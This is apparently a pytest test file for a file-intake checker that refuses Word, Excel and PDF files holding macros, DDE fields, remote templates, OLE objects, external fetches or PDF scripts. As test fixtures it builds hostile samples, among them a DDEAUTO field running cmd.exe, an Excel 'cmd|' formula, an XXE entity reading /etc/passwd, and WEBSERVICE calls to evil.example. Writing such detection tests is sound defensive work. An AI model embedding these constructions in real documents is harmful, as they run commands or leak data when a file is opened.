"""What runs or fetches when a file is opened is refused, whatever its parts are called; what only looks so is taken."""

import io
import zipfile
import zlib

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement
from openpyxl.chart import BarChart, Reference

from shuping.core import active, bundles, handed_on, packages, sheets
from shuping.core.active_words import ACTIVE
from shuping.core.office_xml import Active
from shuping.core.refusals import Refused
from shuping.reports import intake
from tests.core.office import (
    MICROSOFT,
    STRICT,
    WORKBOOK_TYPE,
    W,
    field_of,
    formula,
    hidden_field,
    marks,
    pdf,
    plain_docx,
    plain_xlsx,
    report,
    with_chart,
    written,
)

DOCUMENT, BOOK = "word/document.xml", "xl/workbook.xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"
UNC = r"\\\\server\\share\\a.png"


def _twice():
    out = io.BytesIO(plain_docx())
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(out, "a") as packed:
        packed.writestr(DOCUMENT, b"<other/>")
    return out.getvalue()


ACTIVE_DOCUMENTS = {
    "a macro part": ("macros", lambda: report().add("word/vbaProject.bin").body()),
    "a macro part in capitals": ("macros", lambda: report().add("word/VBAPROJECT.BIN").body()),
    "a macro part by its type": (
        "macros",
        lambda: report().add("word/notes.bin", content_type="application/vnd.ms-office.vbaProject").body(),
    ),
    "a macro part by its ending": (
        "macros",
        lambda: report().add("word/notes.bin").by_ending("BIN", "application/vnd.ms-office.VBAPROJECT").body(),
    ),
    "a macro part by its relationship": (
        "macros",
        lambda: (
            report()
            .add("word/notes.bin")
            .relate(DOCUMENT, f"{MICROSOFT}/2006/relationships/vbaProject", "notes.bin")
            .body()
        ),
    ),
    "a docm called docx": ("macros", lambda: report().change("[Content_Types].xml", MAIN, MACRO_MAIN).body()),
    "a template elsewhere": (
        "template",
        lambda: (
            report()
            .relate("word/settings.xml", "attachedTemplate", "https://evil.example/a.dotm", mode="External")
            .body()
        ),
    ),
    "a template elsewhere, strict, in capitals": (
        "template",
        lambda: (
            report()
            .relate("word/settings.xml", f"{STRICT}/attachedTemplate", "file://///evil/a.dotm", mode="EXTERNAL")
            .body()
        ),
    ),
    "a picture elsewhere": (
        "fetched",
        lambda: report().relate(DOCUMENT, "image", "http://evil.example/a.png", mode="External").body(),
    ),
    "a picture elsewhere in a header": (
        "fetched",
        lambda: report().relate("word/header1.xml", "image", "http://evil.example/a.png", mode="External").body(),
    ),
    "a frame elsewhere": (
        "fetched",
        lambda: report().relate("word/webSettings.xml", "frame", "http://evil.example/", mode="External").body(),
    ),
    "data for a mail merge": (
        "fetched",
        lambda: report().relate("word/settings.xml", "mailMergeSource", "file:///C:/a.mdb", mode="External").body(),
    ),
    "an OLE object": (
        "embedded",
        lambda: (
            report()
            .add("word/embeddings/oleObject1.bin", content_type=OLE)
            .relate(DOCUMENT, "oleObject", "embeddings/oleObject1.bin")
            .body()
        ),
    ),
    "an OLE object under another name": (
        "embedded",
        lambda: report().add("word/media/image9.png").relate(DOCUMENT, "oleObject", "media/image9.png").body(),
    ),
    "a linked OLE object": (
        "embedded",
        lambda: report().relate(DOCUMENT, "oleObject", "file:///C:/a.xlsx", mode="External").body(),
    ),
    "an inserted workbook": (
        "embedded",
        lambda: (
            report()
            .add("word/embeddings/a.xlsx", plain_xlsx(), WORKBOOK_TYPE)
            .relate(DOCUMENT, "package", "embeddings/a.xlsx")
            .body()
        ),
    ),
    "a control": (
        "embedded",
        lambda: (
            report()
            .add("word/activeX/activeX1.xml", b"<a/>", "application/vnd.ms-office.activeX+xml")
            .relate(DOCUMENT, "control", "activeX/activeX1.xml")
            .body()
        ),
    ),
    "an inserted page": (
        "inserted",
        lambda: report().add("word/a.html", b"<p>more</p>", "text/html").relate(DOCUMENT, "aFChunk", "a.html").body(),
    ),
    "a document below it": (
        "inserted",
        lambda: report().relate(DOCUMENT, "subDocument", "file:///C:/a.docx", mode="External").body(),
    ),
    "buttons of its own": (
        "buttons",
        lambda: (
            report()
            .add("customUI/customUI14.xml", b"<customUI/>")
            .relate("", f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml")
            .body()
        ),
    ),
    "an add-in": (
        "buttons",
        lambda: (
            report()
            .add("word/webextensions/taskpanes.xml", b"<a/>")
            .relate("", f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml")
            .body()
        ),
    ),
    "DDE": ("fields", lambda: written(field_of(r"DDEAUTO c:\\windows\\cmd.exe &quot;/k calc&quot;")).body()),
    "DDE in pieces": ("fields", lambda: written(field_of(" D", "D", "E", " cmd ")).body()),
    "DDE in one piece": (
        "fields",
        lambda: written('<w:p><w:fldSimple w:instr=" dde cmd x"><w:r/></w:fldSimple></w:p>').body(),
    ),
    "DDE with a hidden name": ("fields", lambda: written(hidden_field()).body()),
    "DDE in a footnote": (
        "fields",
        lambda: (
            report()
            .add(
                "word/notes.xml",
                f"<w:footnotes {W}>{field_of('DDE cmd x')}</w:footnotes>".encode(),
                "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
            )
            .body()
        ),
    ),
    "DDE without an end": (
        "fields",
        lambda: written(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'
        ).body(),
    ),
    "a text that is fetched": ("fields", lambda: written(field_of(r"INCLUDETEXT C:\\secret.txt")).body()),
    "a picture that is fetched": (
        "fields",
        lambda: written(field_of("INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \\d")).body(),
    ),
    "a picture of a server": ("fields", lambda: written(field_of(f"INCLUDEPICTURE &quot;{UNC}&quot;")).body()),
    "a link to a workbook": ("fields", lambda: written(field_of("LINK Excel.Sheet.12 a.xlsx")).body()),
    "a document type": (
        "doubtful",
        lambda: (
            report()
            .change(
                DOCUMENT, "<w:document", '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document'
            )
            .body()
        ),
    ),
    "two parts of one name": ("doubtful", _twice),
    "two parts that differ in capitals": ("doubtful", lambda: report().add("WORD/Document.xml").body()),
    "a chart that is linked": (
        "embedded",
        lambda: (
            report()
            .add("word/charts/chart1.xml", b"<a/>", "application/vnd.openxmlformats-officedocument.drawingml.chart+xml")
            .relate("word/charts/chart1.xml", "oleObject", "file:///C:/a.xlsx", mode="External")
            .body()
        ),
    ),
    "macros behind a chart": (
        "macros",
        lambda: with_chart(marks().add("xl/vbaProject.bin").body()).body(),
    ),
    "a macro workbook behind a chart": (
        "macros",
        lambda: with_chart(plain_xlsx(), workbook_type="application/vnd.ms-excel.sheet.macroEnabled.12").body(),
    ),
    "no workbook behind a chart": ("embedded", lambda: with_chart(b"MZ program").body()),
    "a chart that is none": ("embedded", lambda: with_chart(plain_xlsx(), chart_type="text/xml").body()),
}
ACTIVE_WORKBOOKS = {
    "macros in capitals": ("macros", lambda: marks().add("xl/VBAPROJECT.BIN").body()),
    "macros of the old kind": (
        "macros",
        lambda: marks().add("xl/macrosheets/sheet1.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml").body(),
    ),
    "a link to another workbook": (
        "links",
        lambda: (
            marks()
            .add(
                "xl/externalLinks/externalLink1.xml",
                b"<externalLink/>",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            )
            .relate(BOOK, "externalLink", "externalLinks/externalLink1.xml")
            .body()
        ),
    ),
    "a data source": (
        "links",
        lambda: (
            marks()
            .add(
                "xl/connections.xml",
                b"<connections/>",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            )
            .body()
        ),
    ),
    "a query of the web": (
        "links",
        lambda: marks().add("xl/q.xml", b"<a/>").relate("xl/worksheets/sheet1.xml", "queryTable", "../q.xml").body(),
    ),
    "a program's figures": ("formulas", lambda: formula("cmd|'/c calc'!A0").body()),
    "a page's figures": ("formulas", lambda: formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)').body()),
    "a picture by formula": ("formulas", lambda: formula('_xlfn.IMAGE("http://evil.example/a.png")').body()),
    "a name that fetches": (
        "formulas",
        lambda: (
            marks()
            .change(
                BOOK,
                "</workbook>",
                '<definedNames><definedName name="a">CALL("k")</definedName></definedNames></workbook>',
            )
            .body()
        ),
    ),
    "an OLE object": (
        "embedded",
        lambda: marks().add("xl/embeddings/oleObject1.bin", content_type=OLE).body(),
    ),
    "a picture elsewhere": (
        "fetched",
        lambda: marks().relate("xl/drawings/drawing1.xml", "image", "http://evil.example/", mode="External").body(),
    ),
}


def _found(body: bytes) -> str:
    try:
        with zipfile.ZipFile(io.BytesIO(body)) as package:
            active.ensure_passive(package)
    except Active as found:
        return str(found)
    return "nothing"


@pytest.mark.parametrize("case", ACTIVE_DOCUMENTS)
def test_an_active_document_is_found_out(case):
    fault, build = ACTIVE_DOCUMENTS[case]

    assert _found(build()) == fault


@pytest.mark.parametrize("case", ACTIVE_WORKBOOKS)
def test_an_active_workbook_is_found_out(case):
    fault, build = ACTIVE_WORKBOOKS[case]

    assert _found(build()) == fault


# --- honest files --------------------------------------------------------------------------------------------------


def _lively() -> bytes:
    """Links, tracked changes, a picture, a comment, a table, a header, a contents field, a placeholder."""
    document = docx.Document()
    paragraph = document.add_paragraph("See the page of the county.")
    paragraph.part.relate_to("https://county.example/", f"{STRICT}/hyperlink", is_external=True)
    change = OxmlElement("w:ins")
    paragraph._p.append(change)
    png = zlib.compress(b"\0" * 4)
    document.add_picture(io.BytesIO(_png(png)))
    document.add_comment(paragraph.runs, text="Which county?", author="Wei", initials="W")
    document.add_table(2, 2)
    document.sections[0].header.paragraphs[0].text = "Committee 1"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _png(data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    head = (1).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _book_with_chart() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in (["unit", "mark"], ["01", 88], ["02", "=SUM(B2:B2)"], ["03", "=VLOOKUP(\"a|b\",'A|B'!A1:B2,2)"]):
        sheet.append(row)
    sheet["A5"].hyperlink = "https://county.example/"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3))
    sheet.add_chart(chart, "D2")
    book.create_sheet("A|B")
    book.defined_names["marks"] = openpyxl.workbook.defined_name.DefinedName("marks", attr_text="Sheet!$B$2:$B$3")
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


HONEST = {
    "a plain report": plain_docx,
    "a lively report": _lively,
    "a chart with its figures": lambda: with_chart(plain_xlsx()).body(),
    "contents, page numbers, a placeholder": lambda: written(
        field_of('TOC \\o "1-3" \\h') + field_of("PAGE") + field_of("MACROBUTTON NoMacro [click here]")
    ).body(),
    "a picture pasted from the own machine": lambda: written(
        field_of(r"INCLUDEPICTURE &quot;C:\\Users\\li\\AppData\\a.png&quot; \* MERGEFORMAT")
        + field_of(r"INCLUDEPICTURE &quot;file:///C:\\Users\\li\\a.png&quot;")
        + field_of(r"INCLUDEPICTURE &quot;pictures\\a.png&quot;")
    ).body(),
    "words about DDE": lambda: plain_docx("DDEAUTO and LINK are names of fields."),
    "an ending that is declared and not used": lambda: report().by_ending("bin", OLE).body(),
    "a plain workbook": plain_xlsx,
    "a workbook with chart, formulas and a link": _book_with_chart,
}


@pytest.mark.parametrize("case", HONEST)
def test_an_honest_file_is_taken(case):
    assert _found(HONEST[case]()) == "nothing"


# --- at the doors --------------------------------------------------------------------------------------------------


def _zip(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, body in files.items():
            packed.writestr(name.replace("_", "."), body)
    return out.getvalue()


DOORS = {
    "a report": (intake.read, lambda: report().relate(DOCUMENT, "aFChunk", "a.html").body(), "report_inserted"),
    "a workbook of marks": (sheets.rows, lambda: formula("cmd|'/c calc'!A0").body(), "sheet_formulas"),
    "a workbook of units": (sheets.tables, lambda: marks().add("xl/VbaProject.bin").body(), "sheet_macros"),
    "a document as evidence": (handed_on.kind_of, lambda: written(field_of("DDE cmd x")).body(), "file_fields"),
    "a zip as evidence": (
        handed_on.kind_of,
        lambda: _zip(a_txt=b"hello", b_docx=report().add("word/vbaProject.bin").body()),
        "file_macros",
    ),
}


@pytest.mark.parametrize("door", DOORS)
def test_every_door_refuses_with_the_name_and_what_to_do(door):
    take, build, code = DOORS[door]

    with pytest.raises(Refused) as caught:
        take(build(), "handed in 2022.x")

    assert caught.value.refusal.code == code
    assert str(caught.value).startswith("handed in 2022.x ")


def test_a_document_in_a_units_zip_is_looked_at_when_it_is_read():
    inside = bundles.files(_zip(report_docx=report().add("word/vbaProject.bin").body()), "unit.zip")

    with pytest.raises(Refused, match=r"report\.docx contains macros"):
        intake.read(inside["report.docx"], "report.docx")


def test_every_finding_has_its_words_at_every_door():
    names = {*active.TYPES, *active.RELATIONS, "template", "fetched", "fields", "formulas", "doubtful"}

    for kind in (intake.REPORT, sheets.WORKBOOK, sheets.BOOK, handed_on.FILE):
        assert names <= kind.sentences.keys()
    assert {fault for fault, _build in [*ACTIVE_DOCUMENTS.values(), *ACTIVE_WORKBOOKS.values()]} == names
    assert names <= ACTIVE.keys()


# --- files of any kind ---------------------------------------------------------------------------------------------

PACKED = zlib.compress(b"12 0 13 20 << /S /JavaScript /JS (app.alert(1)) >> << >>")
KINDS = {
    "pdf": lambda: pdf("<< /Type /Catalog /OpenAction [3 0 R /Fit] >>", "(see /JS Bach)"),
    "docx": plain_docx,
    "xlsx": plain_xlsx,
    "png": lambda: _png(b""),
    "jpg": lambda: b"\xff\xd8\xff\xe0" + bytes(100),
    "heic": lambda: b"\0\0\0\x18ftypheic" + bytes(100),
    "mp4": lambda: b"\0\0\0\x18ftypisom" + bytes(100),
    "webp": lambda: b"RIFF\0\0\0\0WEBPVP8 ",
    "txt": lambda: "会议纪要".encode("gb18030"),
    "zip": lambda: _zip(a_txt=b"hello", b_png=_png(b"")),
}
REFUSED = {
    "a pdf with a script": ("pdf_script", lambda: pdf("<< /OpenAction << /S /JavaScript /JS (x) >> >>")),
    "a pdf with an escaped script": ("pdf_script", lambda: pdf("<< /S /J#61va#53cript /JS (x) >>")),
    "a pdf with a packed script": (
        "pdf_script",
        lambda: pdf("<< >>", stream=PACKED, head="/Type /ObjStm /N 2 /First 10 /Filter /FlateDecode"),
    ),
    "a pdf packed in a strange way": (
        "doubtful",
        lambda: pdf("<< >>", stream=b"x", head="/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]"),
    ),
    "a pdf that starts a program": ("pdf_starts", lambda: pdf("<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>")),
    "a pdf with files": ("pdf_files", lambda: pdf("<< /Names << /EmbeddedFiles << >> >> >>")),
    "a pdf that opens an address": (
        "pdf_address",
        lambda: pdf("<< /OpenAction << /S /URI /URI (http://evil.example/) >> >>"),
    ),
    "a pdf that opens an address elsewhere in it": (
        "pdf_address",
        lambda: pdf("<< /OpenAction 2 0 R >>", "<< /S /URI /URI (http://evil.example/) >>"),
    ),
    "a pdf under a key": ("pdf_locked", lambda: pdf("<< >>") + b"trailer << /Encrypt 5 0 R >>"),
    "a program": ("unknown_kind", lambda: b"MZ\x90\0\x03\0\0\0"),
    "an old document": ("old_format", lambda: packages.OLD_OR_ENCRYPTED + bytes(600)),
    "a zip in a zip": ("unknown_kind", lambda: _zip(a_zip=_zip(b_txt=b"x"))),
    "a program in a zip": ("unknown_kind", lambda: _zip(a_txt=b"hello", b_exe=b"MZ\x90\0\x03\0\0\0")),
    "a binary workbook": ("unknown_kind", lambda: marks().rename(BOOK, "xl/workbook.bin").body()),
    "nothing": ("empty", lambda: b""),
    "an empty zip": ("unknown_kind", _zip),
    "more than is taken": ("too_large", lambda: bytes(20_000_001)),
}


@pytest.mark.parametrize("kind", KINDS)
def test_a_kind_is_told_by_what_is_in_the_file(kind):
    assert handed_on.kind_of(KINDS[kind](), "anything.exe") == kind


@pytest.mark.parametrize("case", REFUSED)
def test_evidence_that_is_not_taken_is_refused_by_name(case):
    fault, build = REFUSED[case]

    with pytest.raises(Refused) as caught:
        handed_on.kind_of(build(), "proof.pdf")

    assert caught.value.refusal.code == f"file_{fault}"
    assert str(caught.value).startswith("proof.pdf ")
